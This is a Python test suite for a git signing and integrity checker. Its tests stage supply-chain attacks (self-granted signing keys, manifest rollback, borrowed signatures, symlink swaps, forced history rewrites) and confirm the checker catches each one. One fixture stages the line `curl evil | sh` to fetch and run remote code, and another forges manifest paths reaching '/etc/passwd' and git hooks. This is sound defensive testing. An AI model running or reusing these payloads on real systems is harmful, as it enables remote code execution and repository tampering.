"""Attacks on the git layer: each is a real branch with real commits (or a real staged
index), checked the way CI (`verify --trust-ref main`) or the hook (`verify --staged`) would.

A change must never vouch for itself: trust and policy come from main (or HEAD).
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from helpers import (
    CORE_FILE,
    MIDDLE_FILE,
    KeyPair,
    commit,
    failing,
    git_run,
    protect,
    rules,
    run_qeguard,
    sign,
    verify_json,
    with_bare_remote,
    write_files,
)
from helpers.workflows import ACTION, FILE_PROTECTION, fake_venv, run_step
from qeguard.integrity.dsse import PAYLOAD_TYPE, Envelope, Signature
from qeguard.integrity.keys import load_signing_key
from qeguard.integrity.layout import envelope_path, list_path
from qeguard.integrity.manifest import new_payload, parse_list
from qeguard.integrity.policy import parse_policy

CI = ("--trust-ref", "main")


def _branch(root: Path, name: str = "attack") -> None:
    git_run(root, "checkout", "-q", "-b", name)


def _policy_sha(root: Path) -> str:
    return parse_policy((root / ".qeguard/policy.toml").read_text()).sha256


def _forge(root: Path, tier: str, list_bytes: bytes, keys: list[KeyPair], sequence: int) -> None:
    """Write a tier's list and an envelope over it signed by `keys` (validly)."""
    payload = new_payload(
        tier=tier,
        sequence=sequence,
        list_bytes=list_bytes,
        count=len(parse_list(list_bytes, source="forged")),
        policy_sha256=_policy_sha(root),
        now=datetime.now(UTC),
        expires_days=180,
        git_commit=None,
    )
    env = Envelope(payload_type=PAYLOAD_TYPE, payload=payload.to_bytes())
    for k in keys:
        sk = load_signing_key(k.private)
        env = env.with_signature(Signature(keyid=sk.public.keyid, sig=sk.sign(env.pae)))
    (root / list_path(tier)).write_bytes(list_bytes)
    (root / envelope_path(tier)).write_bytes(env.to_bytes())


def test_baseline_main_verifies_clean(repo: Path, keypair: Callable[..., KeyPair]) -> None:
    protect(repo, keypair("alice"), keypair("bob"))
    code, doc = verify_json(repo, *CI)
    assert code == 0, rules(doc)
    assert failing(doc) == []


# 1
def test_branch_adding_its_own_keys_to_trust_cannot_sign_core(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    alice, bob = keypair("alice"), keypair("bob")
    m1, m2 = keypair("mallory1"), keypair("mallory2")
    protect(repo, alice, bob)
    _branch(repo)
    for k in (m1, m2):
        assert (
            run_qeguard("trust", "add", k.name, k.public, "--tiers", "core,middle", cwd=repo).code
            == 0
        )
    write_files(repo, {CORE_FILE: "def predict(x):\n    return 0\n"})
    sign(repo, m1)
    sign(repo, m2)
    commit(repo, "add my keys and change core")
    # Under the branch's own trust this would pass; that is exactly what must not count.
    code, doc = verify_json(repo, *CI)
    assert code == 1
    found = rules(doc)
    assert "QG-TRUST-CHANGE .qeguard/trust.toml" in found
    assert any(r.startswith("QG-SIG-THRESHOLD") for r in found)
    root = git_run(repo, "rev-list", "--max-parents=0", "main").strip()
    assert doc["trust_source"].startswith(f"trust root {root} ")
    assert "not approved" in doc["trust_source"]
    # The hook (trust from HEAD = main's commit here, staged = the branch) agrees.
    git_run(repo, "reset", "-q", "--soft", "HEAD~1")
    code, doc = verify_json(repo, "--staged")
    assert code == 1
    assert "QG-TRUST-CHANGE .qeguard/trust.toml" in rules(doc)


# 2
def test_core_change_resigned_by_one_of_two_is_blocked_in_ci(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    _branch(repo)
    write_files(repo, {CORE_FILE: "def predict(x):\n    return 7 * x\n"})
    sign(repo, alice, "core")
    commit(repo, "core change, one signature")
    code, doc = verify_json(repo, *CI)
    assert code == 1
    threshold = [f for f in doc["findings"] if f["rule"] == "QG-SIG-THRESHOLD"]
    assert threshold and threshold[0]["severity"] == "high"
    assert threshold[0]["details"]["signers"] == ["alice"]
    # Plain verify is as strict as CI...
    code, doc = verify_json(repo)
    assert code == 1
    assert "QG-SIG-THRESHOLD" in failing(doc)
    # ...only a hook turns the same state into a warning naming who signed.
    code, doc = verify_json(repo, "--hook", "pre-commit")
    assert code == 0
    local = [f for f in doc["findings"] if f["rule"] == "QG-SIG-THRESHOLD"]
    assert local[0]["severity"] == "low" and "(alice)" in local[0]["message"]


# 3
def test_restoring_an_older_validly_signed_manifest_is_a_rollback(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    old = git_run(repo, "rev-parse", "HEAD").strip()
    write_files(repo, {CORE_FILE: "def predict(x):\n    return 2 * x + 1  # fixed\n"})
    sign(repo, alice, "core")
    sign(repo, bob, "core")
    commit(repo, "security fix, co-signed")
    assert verify_json(repo, *CI)[0] == 0
    _branch(repo)
    git_run(repo, "checkout", "-q", old, "--", ".qeguard/manifests", CORE_FILE)
    commit(repo, "bring back the old version")
    # The old manifest is validly signed by both and matches the old file, but against
    # main it is a rollback; and so it is against the old commit or no base at all,
    # since the history walked from the trust root already holds the higher sequence.
    for args in (CI, ("--trust-ref", old), ()):
        code, doc = verify_json(repo, *args)
        assert code == 1, args
        rb = [f for f in doc["findings"] if f["rule"] == "QG-SIG-ROLLBACK"]
        assert rb and rb[0]["severity"] == "critical" and rb[0]["tier"] == "core", args


# 4
def test_removing_a_file_from_the_policy_instead_of_signing(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    _branch(repo)
    policy = repo / ".qeguard/policy.toml"
    text = policy.read_text()
    # Override core's patterns so that src/*/core/** is no longer protected by core.
    text += (
        '\n[[tiers]]\nname = "core"\nthreshold = 2\npatterns = ["pyproject.toml", ".qeguard/**"]\n'
    )
    policy.write_text(text)
    write_files(repo, {CORE_FILE: "def predict(x):\n    return -x\n"})
    sign(repo, alice)  # one signer re-signs everything under the narrowed policy
    commit(repo, "narrow the policy")
    code, doc = verify_json(repo, *CI)
    assert code == 1
    found = rules(doc)
    assert "QG-TRUST-CHANGE .qeguard/policy.toml" in found  # the file that changed
    # main's policy still applies, so the changed file is still core's and still caught.
    assert f"QG-INT-ADDED {CORE_FILE}" in found
    assert "QG-SIG-POLICY .qeguard/policy.toml" in found


# 5
def test_envelope_or_signature_copied_from_another_tier(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    _branch(repo)
    # (a) the whole middle envelope (validly signed by both) pasted over core's.
    shutil.copy(repo / envelope_path("middle"), repo / envelope_path("core"))
    shutil.copy(repo / list_path("middle"), repo / list_path("core"))
    commit(repo, "core = middle")
    code, doc = verify_json(repo, *CI)
    assert code == 1
    assert "QG-SIG-BINDING .qeguard/manifests/core.dsse.json" in rules(doc)

    # (b) a new core payload carrying the signatures of middle's envelope.
    git_run(repo, "reset", "-q", "--hard", "main")
    write_files(repo, {CORE_FILE: "def predict(x):\n    return 9\n"})
    nobody = keypair("nobody")
    run_qeguard(
        "sign", "--key", nobody.private, "--tier", "core", cwd=repo
    )  # new payload, unsigned
    middle = json.loads((repo / envelope_path("middle")).read_text())
    core = json.loads((repo / envelope_path("core")).read_text())
    core["signatures"] = middle["signatures"]
    (repo / envelope_path("core")).write_text(json.dumps(core))
    commit(repo, "borrow signatures")
    code, doc = verify_json(repo, *CI)
    assert code == 1
    threshold = [f for f in doc["findings"] if f["rule"] == "QG-SIG-THRESHOLD"]
    assert threshold and threshold[0]["tier"] == "core"
    assert threshold[0]["details"]["signers"] == []


# 6
def test_staged_blob_differs_while_working_copy_matches(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    original = (repo / CORE_FILE).read_bytes()
    (repo / CORE_FILE).write_text("import os; os.system('curl evil | sh')\n")
    git_run(repo, "add", CORE_FILE)
    (repo / CORE_FILE).write_bytes(original)  # the working copy looks untouched
    assert verify_json(repo)[0] == 0  # the working tree is clean...
    code, doc = verify_json(repo, "--staged")  # ...but the commit would not be
    assert code == 1
    assert f"QG-INT-MODIFIED {CORE_FILE}" in rules(doc)


# 7
def test_file_replaced_by_symlink_to_identical_content(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    _branch(repo)
    content = (repo / CORE_FILE).read_bytes()
    write_files(repo, {"vendor/model.py": content})  # not protected by any tier
    (repo / CORE_FILE).unlink()
    rel = os.path.relpath(repo / "vendor/model.py", (repo / CORE_FILE).parent)
    os.symlink(rel, repo / CORE_FILE)
    git_run(repo, "add", "-A")
    code, doc = verify_json(repo, "--staged")
    assert code == 1
    assert f"QG-INT-KIND {CORE_FILE}" in rules(doc)
    git_run(repo, "commit", "-q", "-m", "symlink")
    code, doc = verify_json(repo, *CI)
    assert code == 1
    assert f"QG-INT-KIND {CORE_FILE}" in rules(doc)
    code, doc = verify_json(repo, "--commit", "HEAD", *CI)
    assert f"QG-INT-KIND {CORE_FILE}" in rules(doc)


# 8
def test_manifest_entries_escaping_the_repository(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    _branch(repo)
    lines = (repo / list_path("middle")).read_bytes().splitlines(keepends=True)
    digest = "0" * 64
    evil = [
        f"{digest} 100644 file {p}\n".encode()
        for p in ("../outside.py", "/etc/passwd", ".git/hooks/pre-commit")
    ]
    ordered = sorted(evil + lines, key=lambda line: line.split(b" ", 3)[3])
    _forge(repo, "middle", b"".join(ordered), [alice, bob], sequence=5)
    git_run(repo, "add", "-A")
    code, doc = verify_json(repo, "--staged")  # the hook: the changed lines are checked
    assert code == 1
    assert len([f for f in doc["findings"] if f["rule"] == "QG-INT-PATH"]) == 3
    commit(repo, "entries outside the tree")
    code, doc = verify_json(repo, *CI)
    assert code == 1
    unsafe = [f for f in doc["findings"] if f["rule"] == "QG-INT-PATH"]
    assert sorted(f["details"]["entry"] for f in unsafe) == [
        "../outside.py",
        ".git/hooks/pre-commit",
        "/etc/passwd",
    ]
    assert all(f["severity"] == "critical" for f in unsafe)


# 9
def test_crlf_checkout_of_a_clean_signed_tree_has_no_finding(
    tmp_path: Path, repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    clone = tmp_path / "crlf"
    git_run(tmp_path, "-c", "core.autocrlf=true", "clone", "-q", str(repo), str(clone))
    git_run(clone, "config", "core.autocrlf", "true")
    git_run(clone, "config", "user.name", "Win User")
    git_run(clone, "config", "user.email", "win@example.com")
    assert b"\r\n" in (clone / CORE_FILE).read_bytes()  # really checked out with CRLF
    for args in ((), ("--trust-ref", "origin/main"), ("--staged",), ("--commit", "HEAD")):
        code, doc = verify_json(clone, *args)
        assert code == 0, (args, rules(doc))
        assert [r for r in rules(doc) if not r.startswith("QG-SIG-THRESHOLD")] == [], args


# more


def test_staged_manifest_edit_without_the_file_is_caught(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    """Only the manifest is staged: the entries whose lines changed are checked anyway."""
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    write_files(repo, {MIDDLE_FILE: "HELPER = 2\n"})
    sign(repo, alice, "middle")
    git_run(repo, "add", ".qeguard")  # MIDDLE_FILE itself stays unstaged
    code, doc = verify_json(repo, "--staged")
    assert code == 1
    assert f"QG-INT-MODIFIED {MIDDLE_FILE}" in rules(doc)


def test_deleting_a_protected_file_is_caught_in_the_index(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    protect(repo, keypair("alice"), keypair("bob"))
    git_run(repo, "rm", "-q", CORE_FILE)
    code, doc = verify_json(repo, "--staged")
    assert code == 1
    assert f"QG-INT-MISSING {CORE_FILE}" in rules(doc)


def test_exec_bit_flipped_in_the_index_only(repo: Path, keypair: Callable[..., KeyPair]) -> None:
    protect(repo, keypair("alice"), keypair("bob"))
    git_run(repo, "update-index", "--chmod=+x", CORE_FILE)
    code, doc = verify_json(repo, "--staged")
    assert code == 1
    assert f"QG-INT-EXEC {CORE_FILE}" in rules(doc)


def test_new_unsigned_file_in_a_protected_folder(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    protect(repo, keypair("alice"), keypair("bob"))
    write_files(repo, {"src/pkg/core/backdoor.py": "x = 1\n"})
    git_run(repo, "add", "src/pkg/core/backdoor.py")
    code, doc = verify_json(repo, "--staged")
    assert code == 1
    assert "QG-INT-ADDED src/pkg/core/backdoor.py" in rules(doc)


def test_key_rotation_signed_by_the_old_threshold_is_accepted(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    alice, bob, carol = keypair("alice"), keypair("bob"), keypair("carol")
    protect(repo, alice, bob)
    # Step 1: add carol. One old signer is not enough; the old threshold (2) is.
    _branch(repo, "add-carol")
    assert (
        run_qeguard("trust", "add", "carol", carol.public, "--tiers", "core,middle", cwd=repo).code
        == 0
    )
    sign(repo, alice, "core")
    commit(repo, "trust carol, alice signs")
    code, doc = verify_json(repo, *CI)
    assert code == 1
    assert "QG-TRUST-CHANGE .qeguard/trust.toml" in rules(doc)
    sign(repo, bob, "core")
    commit(repo, "bob co-signs")
    code, doc = verify_json(repo, *CI)
    assert code == 0, rules(doc)
    git_run(repo, "checkout", "-q", "main")
    git_run(repo, "merge", "-q", "--ff-only", "add-carol")
    # Step 2: retire bob, approved by alice and carol (trusted at main now).
    _branch(repo, "retire-bob")
    assert run_qeguard("trust", "remove", "bob", cwd=repo).code == 0
    sign(repo, alice, "core")
    sign(repo, carol, "core")
    commit(repo, "retire bob")
    code, doc = verify_json(repo, *CI)
    assert code == 0, rules(doc)
    git_run(repo, "checkout", "-q", "main")
    git_run(repo, "merge", "-q", "--ff-only", "retire-bob")
    # From now on bob's signature does not count, carol's does.
    _branch(repo, "after")
    write_files(repo, {CORE_FILE: "def predict(x):\n    return 11 * x\n"})
    sign(repo, alice, "core")
    run_qeguard("sign", "--key", bob.private, "--tier", "core", cwd=repo)
    commit(repo, "core change signed by alice and (retired) bob")
    code, doc = verify_json(repo, *CI)
    assert code == 1
    sign(repo, carol, "core")
    commit(repo, "carol co-signs")
    code, doc = verify_json(repo, *CI)
    assert code == 0, rules(doc)


def test_co_signing_across_commits(
    tmp_path: Path, repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    """Author signs and pushes; the reviewer fetches the branch, signs, pushes; CI passes."""
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    remote = with_bare_remote(tmp_path, repo)
    _branch(repo, "feature")
    write_files(repo, {CORE_FILE: "def predict(x):\n    return 2 * x  # reviewed\n"})
    sign(repo, alice, "core")
    commit(repo, "author: core change signed by alice")
    git_run(repo, "push", "-q", "origin", "feature")

    reviewer = tmp_path / "reviewer"
    git_run(tmp_path, "clone", "-q", str(remote), str(reviewer))
    git_run(reviewer, "config", "user.name", "Bob")
    git_run(reviewer, "config", "user.email", "bob@example.com")
    git_run(reviewer, "checkout", "-q", "feature")
    code, doc = verify_json(reviewer, "--trust-ref", "origin/main")
    assert code == 1 and "QG-SIG-THRESHOLD" in " ".join(rules(doc))
    sign(reviewer, bob, "core")
    commit(reviewer, "reviewer: co-sign core")
    git_run(reviewer, "push", "-q", "origin", "feature")

    git_run(repo, "pull", "-q", "--ff-only", "origin", "feature")
    code, doc = verify_json(repo, "--trust-ref", "origin/main")
    assert code == 0, rules(doc)
    core = next(t for t in doc["tiers"] if t["name"] == "core")
    assert sorted(core["signers"]) == ["alice", "bob"]


# -- the trust root and the history from it -----------------------------------------------


def _root_of(repo: Path, rev: str = "main") -> str:
    return git_run(repo, "rev-list", "--max-parents=0", rev).strip()


def test_a_root_that_is_no_ancestor_fails(
    repo: Path, keypair: Callable[..., KeyPair], monkeypatch: pytest.MonkeyPatch
) -> None:
    """An unrelated history with its own .qeguard/ and its own keys (an orphan branch, a
    rewritten main): the pinned root, or the root found on the base, is not in it."""
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    root = _root_of(repo)
    m1, m2 = keypair("mallory1"), keypair("mallory2")
    git_run(repo, "checkout", "-q", "--orphan", "evil")
    git_run(repo, "rm", "-q", "-rf", "--cached", ".qeguard")
    shutil.rmtree(repo / ".qeguard")
    mallory = protect(repo, m1, m2)  # a perfectly signed repository, under mallory's keys
    assert mallory.cli("verify").code == 0  # trust on first use cannot know better...
    code, doc = verify_json(repo)
    assert doc["trust_source"].startswith(f"trust root {_root_of(repo, 'evil')} ")
    # ...a pinned root can, in every form it is given:
    monkeypatch.setenv("CI", "true")
    for args in (("--trust-root", root), ("--trust-ref", "main"), ("--trust-root", root, *CI)):
        code, doc = verify_json(repo, *args)
        assert code == 1, args
        found = [f for f in doc["findings"] if f["rule"] == "QG-TRUST-ROOT"]
        assert found and found[0]["severity"] == "critical", args
        assert "not an ancestor" in found[0]["message"]
        # The root's own trust applies: mallory's signatures count for nothing.
        assert "QG-SIG-THRESHOLD" in failing(doc), args
    monkeypatch.setenv("QEGUARD_TRUST_ROOT", root)
    code, doc = verify_json(repo)
    assert code == 1 and "QG-TRUST-ROOT" in failing(doc)
    assert doc["trust_source"].startswith(f"trust root {root} (pinned by QEGUARD_TRUST_ROOT)")


def test_a_root_only_on_a_merged_side_branch_is_refused(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    _branch(repo, "side")
    write_files(repo, {"notes.txt": "side\n"})
    side = commit(repo, "side work")
    git_run(repo, "checkout", "-q", "main")
    write_files(repo, {"other.txt": "main\n"})
    commit(repo, "main work")
    git_run(repo, "merge", "-q", "--no-ff", "--no-edit", "side")
    code, doc = verify_json(repo, "--trust-root", side)
    assert code == 1
    (found,) = [f for f in doc["findings"] if f["rule"] == "QG-TRUST-ROOT"]
    assert "first-parent" in found["message"]
    assert verify_json(repo, "--trust-root", "HEAD^")[0] == 0


def test_a_history_rewrite_that_drops_an_approved_trust_change_fails(
    tmp_path: Path, repo: Path, keypair: Callable[..., KeyPair], monkeypatch: pytest.MonkeyPatch
) -> None:
    """bob's key leaks; main removes it (approved by alice and bob). The attacker rewrites
    main from before the removal and signs a middle change with bob's key, then force
    pushes. The push build's base (the old tip) and a root pinned after the removal both
    catch it."""
    alice, bob, carol = keypair("alice"), keypair("bob"), keypair("carol")
    p = protect(repo, alice, bob)
    with_bare_remote(tmp_path, repo)
    before_removal = git_run(repo, "rev-parse", "HEAD").strip()
    assert p.cli("trust", "add", "carol", carol.public, "--tiers", "core,middle").code == 0
    assert p.cli("trust", "remove", "bob").code == 0
    sign(repo, alice, "core")
    sign(repo, carol, "core")  # the new trust's threshold, for the tier itself
    # bob approves his own removal: the old trust's threshold is alice and bob.
    _cosign_as(repo, bob, "core")
    removal = commit(repo, "retire bob (leaked), add carol")
    assert verify_json(repo)[0] == 0, rules(verify_json(repo)[1])
    old_tip = git_run(repo, "rev-parse", "HEAD").strip()
    git_run(repo, "push", "-q", "origin", "main")

    git_run(repo, "reset", "-q", "--hard", before_removal)
    write_files(repo, {MIDDLE_FILE: "HELPER = 'evil'\n"})
    sign(repo, bob, "middle")
    commit(repo, "bob's key still works here")
    git_run(repo, "push", "-q", "--force", "origin", "main")
    monkeypatch.setenv("CI", "true")
    assert verify_json(repo)[0] == 0  # this history alone never saw the removal...
    code, doc = verify_json(repo, "--trust-ref", old_tip)  # ...the push's base did
    assert code == 1
    (found,) = [f for f in doc["findings"] if f["rule"] == "QG-TRUST-HISTORY"]
    assert found["details"]["commit"] == removal and found["severity"] == "critical"
    code, doc = verify_json(repo, "--trust-root", removal)  # and so does the pinned root
    assert code == 1 and "QG-TRUST-ROOT" in failing(doc)
    # The pre-push hook's range from what the remote had, likewise.
    code, doc = verify_json(repo, "--range", f"{old_tip}..HEAD")
    assert code == 1 and "QG-TRUST-HISTORY" in failing(doc)
    # The push builds pass github.event.before as that base.
    push = {"github.event_name": "push", "github.event.before": old_tip, "inputs.sarif": "q.sarif"}
    for path, step in (
        (ACTION, "Run qeguard ci"),
        (FILE_PROTECTION, "Verify with trust from the pinned root"),
    ):
        runner = tmp_path / f"runner-{path.name}"
        fake_venv(runner)
        proc = run_step(path, step, cwd=repo, runner_temp=runner, contexts=push)
        assert proc.returncode == 1 and "QG-TRUST-HISTORY" in proc.stdout, proc.stdout + proc.stderr


def _cosign_as(repo: Path, key: KeyPair, tier: str) -> None:
    """Add `key`'s signature to `tier`'s envelope by hand: `sign` refuses a key the new
    trust no longer lists, but the old trust's signer must approve the change."""
    path = repo / envelope_path(tier)
    env = Envelope.from_bytes(path.read_bytes(), source="test")
    sk = load_signing_key(key.private)
    path.write_bytes(
        env.with_signature(Signature(keyid=sk.public.keyid, sig=sk.sign(env.pae))).to_bytes()
    )
    return True


def test_rotation_chain_across_merges(
    repo: Path, keypair: Callable[..., KeyPair], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Add carol (approved by alice and bob), merge; retire bob (approved by alice and
    carol), merge; both with merge commits. Trust walks through both, pinned or not."""
    alice, bob, carol = keypair("alice"), keypair("bob"), keypair("carol")
    p = protect(repo, alice, bob)
    root = _root_of(repo)
    _branch(repo, "add-carol")
    assert p.cli("trust", "add", "carol", carol.public, "--tiers", "core,middle").code == 0
    sign(repo, alice, "core")
    commit(repo, "trust carol, alice signs")
    sign(repo, bob, "core")
    commit(repo, "bob co-signs")
    git_run(repo, "checkout", "-q", "main")
    write_files(repo, {"notes.txt": "meanwhile on main\n"})
    commit(repo, "unrelated work on main")
    git_run(repo, "merge", "-q", "--no-ff", "--no-edit", "add-carol")
    _branch(repo, "retire-bob")
    assert p.cli("trust", "remove", "bob").code == 0
    sign(repo, alice, "core")
    sign(repo, carol, "core")
    commit(repo, "retire bob")
    git_run(repo, "checkout", "-q", "main")
    git_run(repo, "merge", "-q", "--no-ff", "--no-edit", "retire-bob")
    monkeypatch.setenv("CI", "true")
    for args in ((), ("--trust-root", root), ("--trust-ref", "main")):
        code, doc = verify_json(repo, *args)
        assert code == 0, (args, rules(doc))
        assert "2 approved trust change(s)" in doc["trust_source"], args
    # bob's signature no longer counts; carol's does.
    _branch(repo, "after")
    write_files(repo, {CORE_FILE: "def predict(x):\n    return 11 * x\n"})
    sign(repo, alice, "core")
    _cosign_as(repo, bob, "core")
    commit(repo, "signed by alice and (retired) bob")
    code, doc = verify_json(repo, "--trust-root", root, *CI)
    assert code == 1 and "QG-SIG-THRESHOLD" in failing(doc)
    sign(repo, carol, "core")
    commit(repo, "carol co-signs")
    assert verify_json(repo, "--trust-root", root, *CI)[0] == 0
